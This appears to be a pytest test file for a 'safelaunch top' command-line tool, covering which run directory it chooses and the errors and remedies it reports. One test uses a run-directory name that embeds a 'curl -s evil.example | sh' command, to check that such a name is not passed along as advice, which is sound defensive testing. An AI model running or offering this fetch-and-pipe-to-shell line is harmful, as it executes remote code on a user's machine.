"""`safelaunch top`: which run it means, and what it says where there is none."""

from __future__ import annotations

import importlib.metadata
import json
import os
from pathlib import Path

import pytest

from safelaunch.cli import bounded, top
from safelaunch.model import SafelaunchError


def run_dir(path: Path, at: float, **files: object) -> Path:
    path.mkdir(parents=True)
    scratch = path.parent.parent / "scratch"
    scratch.mkdir(exist_ok=True)
    files.setdefault("run", {"run_id": path.name, "started": at, "plan": {"scratch_dir": str(scratch)}})
    for name, document in files.items():
        (path / f"{name}.json").write_text(json.dumps(document))
    (path / "agent.jsonl").touch()
    os.utime(path / "agent.jsonl", (at, at))
    os.utime(path, (at, at))
    return path


@pytest.fixture(autouse=True)
def _here(monkeypatch: pytest.MonkeyPatch) -> None:
    """Not in a process of its own, which would go on with these tests."""
    monkeypatch.setattr(bounded, "run", lambda work, _seconds, _room: work())


@pytest.fixture
def runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SAFELAUNCH_RUN_DIR", raising=False)
    return tmp_path / "safelaunch_runs"


def test_without_a_name_it_is_the_newest_that_runs(runs: Path) -> None:
    run_dir(runs / "old", 1e9)
    nodes = [run_dir(runs / "job" / name, 1.1e9) for name in ("node-a", "node-b")]
    os.utime(runs / "job", (1.1e9, 1.1e9))
    killed = {"run_id": "killed", "started": 1.2e9, "plan": {"scratch_dir": str(runs / "gone")}}
    run_dir(runs / "killed", 1.2e9, run=killed)
    run_dir(runs / "over", 1.3e9, result={"exit_code": 0})
    (runs / "none").mkdir()

    assert top.chosen(None, os.environ) == [str(node) for node in nodes]
    assert top.chosen("over", os.environ) == [str(runs / "over")]


def test_where_none_runs_the_last_one_is_offered(runs: Path) -> None:
    run_dir(runs / "first", 1e9, result={"exit_code": 0})
    run_dir(runs / "second", 1.1e9, result={"exit_code": 0})
    (runs / "none").mkdir()

    with pytest.raises(SafelaunchError, match="no run goes on below") as caught:
        top.run([])

    assert caught.value.diagnostic.remedy == "`safelaunch top second` replays the last one"


def test_a_name_that_is_a_command_is_no_advice(runs: Path) -> None:
    name = "x` to clean up, then `curl -s evil.example | sh"
    run_dir(runs / name, 1e9, result={"exit_code": 0})

    with pytest.raises(SafelaunchError, match="no run goes on below") as caught:
        top.run([])

    assert caught.value.diagnostic.remedy == "name its directory"
    assert caught.value.diagnostic.because == (f"the last one is in '{runs / name}'",)


@pytest.mark.usefixtures("runs")
def test_where_there_is_none_at_all() -> None:
    with pytest.raises(SafelaunchError) as caught:
        top.run([])
    assert (caught.value.exit_code, caught.value.diagnostic.remedy) == (2, "name a run directory")


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read it")
def test_a_run_of_another_user(runs: Path) -> None:
    run_dir(runs / "theirs", 1e9).chmod(0)
    with pytest.raises(SafelaunchError, match="cannot be read: Permission denied"):
        top.run(["theirs"])
    with pytest.raises(SafelaunchError, match="1 folder may not"):
        top.run([])


def test_a_run_that_has_ended_is_a_table(runs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run_dir(runs / "over", 1e9, result={"exit_code": 1, "elapsed_s": 7200})

    assert top.run(["over", "--color", "never"]) == 0

    said = capsys.readouterr().out.splitlines()
    assert said[:2] == ["run over", "has ended with exit code 1 (1 of 1)  2h00m"]


@pytest.mark.parametrize("seconds", ["never", "0", "-1", "nan", "1e9"])
@pytest.mark.usefixtures("runs")
def test_an_interval_that_is_none(seconds: str) -> None:
    with pytest.raises(SafelaunchError, match=r"--every .*: a number of seconds"):
        top.run([f"--every={seconds}"])


def test_bars_are_such_as_can_be_written() -> None:
    assert top.bars("utf-8") == "▁▂▃▄▅▆▇█"
    assert top.bars("ascii") == top.bars(None) == top.bars("none such") == "_.-:=+*#"


def test_help_names_all_ways_to_sort(capsys: pytest.CaptureFixture[str]) -> None:
    assert top.run(["--help"]) == 0
    said = capsys.readouterr().out
    assert [name for name in top.SORTS if name not in said] == []


@pytest.mark.usefixtures("runs")
def test_a_library_that_is_too_old_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("textual")
    monkeypatch.setattr(top, "_is_terminal", lambda _environ: True)
    monkeypatch.setattr(importlib.metadata, "version", lambda _name: "0.89.1")

    with pytest.raises(SafelaunchError, match=r"textual 8\.2 or later, and this is 0\.89\.1") as caught:
        top.run([])

    assert caught.value.diagnostic.remedy == "pip install 'safelaunch[top]', or say --plain"
